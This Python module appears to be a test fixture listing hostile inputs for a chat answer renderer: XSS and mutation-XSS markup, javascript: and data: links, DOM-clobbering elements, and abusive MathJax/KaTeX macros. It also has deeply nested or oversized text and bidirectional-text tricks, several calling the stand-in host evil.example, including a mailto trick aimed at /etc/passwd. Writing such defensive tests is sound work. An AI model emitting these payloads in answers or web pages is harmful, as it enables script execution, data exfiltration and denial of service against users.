"""What an answer might say to get out of its message (P14): markup, addresses, formulas, and tricks on the eye.

Our own spelling of what is published about markdown renderers, sanitizers and MathML. Each tries to set `window.hit`,
to fetch from evil.example, or to change the page around it; nothing of that may happen.
"""

# ruff: noqa: E501  an input is read best in one line

from __future__ import annotations

RUN = "window.hit=1"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img src=x onerror="{RUN}"> <img src=//evil.example/a.png srcset="https://evil.example/b.png 2x">',
    f"<svg onload={RUN}><svg/onload={RUN}><svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<math href='javascript:{RUN}'>click</math><math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><img src=x onerror={RUN}></template><xmp><p title='</xmp><svg/onload={RUN}>'></xmp>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[><img src=x onerror={RUN}>]]>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data=//evil.example></object><embed src=//evil.example>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><body onload={RUN}><input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>x</a><a href='java&#10;script:{RUN}'>x</a><button formaction=javascript:{RUN}>x</button>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style><p style='background:url(//evil.example/p)'>x</p>",
    "<form id=composer action=//evil.example><input name=attributes><input id=log><a id=hit name=hit></form>",
    "<img name=cookie><img id=getElementById><form name=body></form><iframe name=location></iframe>",
    "&lt;img src=x onerror=window.hit=1&gt; &#60;script&#62;window.hit=1&#60;/script&#62; &amp;lt;b&amp;gt;",
    f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | <td onclick={RUN}> |",
    f"# <img src=x onerror={RUN}>\n\n> <svg onload={RUN}>\n\n- [ ] <input onfocus={RUN} autofocus>\n\n[^1]: <script>{RUN}</script>",
    f'```"><img src=x onerror={RUN}>\n<script>{RUN}</script>\n```',
    f'```html" onmouseover="{RUN}\n<img src=x onerror={RUN}>\n<!-- </code></pre><script>{RUN}</script> -->\n```',
    f"```xml\n<a b='</span><img src=x onerror={RUN}>'><style><!--</style>\n```\n\n    <script>{RUN}</script>",
    f"`<img src=x onerror={RUN}>` ``</code><script>{RUN}</script>``",
    f"<custom-element onclick={RUN}></custom-element><x is=y onload={RUN}>\0<img src=x\0 onerror\0={RUN}>",
]  # fmt: skip

LINKS = [
    "[x](javascript:window.hit=1) [x](JaVaScRiPt:window.hit=1) [x](<java\tscript:window.hit=1>) [x](javascript&colon;window.hit=1)",
    "[x](javascript&#58;window.hit=1) [x](&#x6A;avascript:window.hit=1) [x](\x01javascript:window.hit=1) [x](%6aavascript:window.hit=1)",
    "[x](vbscript:x) [x](data:text/html,<script>window.hit=1</script>) [x](blob:https://evil.example/1) [x](file:///etc/passwd)",
    "<javascript:window.hit=1> <data:text/html;base64,PHNjcmlwdD4=> <vbscript:x> [x](view-source:https://evil.example)",
    "[x][1] [y][2]\n\n[1]: javascript:window.hit=1\n[2]: data:text/html,x",
    "![a](javascript:window.hit=1) ![a](https://evil.example/track.png) ![a](//evil.example/t.png) ![a](data:image/svg+xml,<svg/onload=window.hit=1>)",
    "![r][p]\n\n[p]: https://evil.example/by-reference.png \"t\"",
    "[![a](https://evil.example/in-a-link.png)](https://evil.example/)",
    '[x](https://evil.example "t\\" onmouseover=\\"window.hit=1") [x](https://evil.example/"onclick="window.hit=1)',
    "[x](https://evil.example/\\\"><img/src=x/onerror=window.hit=1>) [x](//evil.example) [x](\\\\evil.example) [x](/\\evil.example)",
    "[x](https://bank.example@evil.example/) [x](https://bank.example%2f@evil.example) https://bank.example:80@evil.example",
    "[x](https:evil.example) [x](https:/evil.example) [x](http://) [x](https://a b.example) [x](mailto:a@b.example,c@d.example)",
    "[x](mailto:a@b.example?attach=/etc/passwd%0abcc:z@evil.example) [x](mailto:) [x](tel:123) [x](ftp://evil.example)",
    "[x](#composer) [x](/accounts/logout/) [x](?q=1) [x](../admin/)",
]  # fmt: skip

FORMULAS = [
    r"$\href{javascript:window.hit=1}{x^2}$ \(\url{javascript:window.hit=1}\) $\href{data:text/html,x}{x_1}$",
    r"$\includegraphics{https://evil.example/f.png}^2$ $\htmlId{composer}{x^2}$ $\class{message}{x^2}$ $\id{log}{x^2}$",
    r"$\style{position:fixed;inset:0}{x^2}$ $\data{a=b}{x^2}$ $\color{url(//evil.example/c)}{x^2}$",
    r"$\text{<img src=x onerror=window.hit=1>}^2$ $\text{</math><script>window.hit=1</script>}^2$ $\verb|<svg/onload=window.hit=1>|^2$",
    "$$\n\\text{</mtext></math><img src=x onerror=window.hit=1>}\n$$\n\n\\[ \\mathrm{<style>}<!--x^2--> \\]",
    r"$\rule{99999em}{99999em}^2$ $\hspace{-99999em}x^2$ $\raisebox{-9999em}{x}^2$ $\kern-9999pt x^2$",
    r"$\def\a{\a\a}\a^2$ $\newcommand{\x}{\x\x}\x^2$ $\let\a\b^2$ $\edef\a{\a\a}\a^2$ $\csname a\endcsname^2$",
    "$" + r"\sqrt{" * 400 + "x" + "}" * 400 + "$",
    "$" + r"\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "$$\n" + "x^2+" * 950 + "\n$$",
    "$$\n" + r"\left(" * 500 + "\n$$",
    r"$\__proto__^2$ $\constructor^2$ $\gdef\foo{x}^2$",
]

DEPTHS = [
    ">" * 600 + " deep",
    "\n".join("  " * depth + "- x" for depth in range(150)),
    "[" * 2000 + "x" + "](https://evil.example)" * 50,
    "*" * 3000 + "x" + "_*" * 1500,
    "`" * 1501 + " " + "`" * 1500,
    "$" * 2001 + "\\(" * 1000,
    "| " + "a | " * 400 + "\n|" + "---|" * 400 + "\n" + "| b " * 800,
    "x" * 20_000,
    "<" * 3000 + "&" * 3000,
    "\u202eneve\u202c \u2066x\u2069 [\u202etxet\u202c](https://evil.example/\u202egpj.exe) `\u202e`",
    "\0\0\ufffd\ufeff\u2028\u2029 \ud83d\udc69\u200d\ud83d\udc67 " + "e\u0301" * 200 + "\u0336" * 500,
]

ALL = [*MARKUP, *LINKS, *FORMULAS, *DEPTHS]
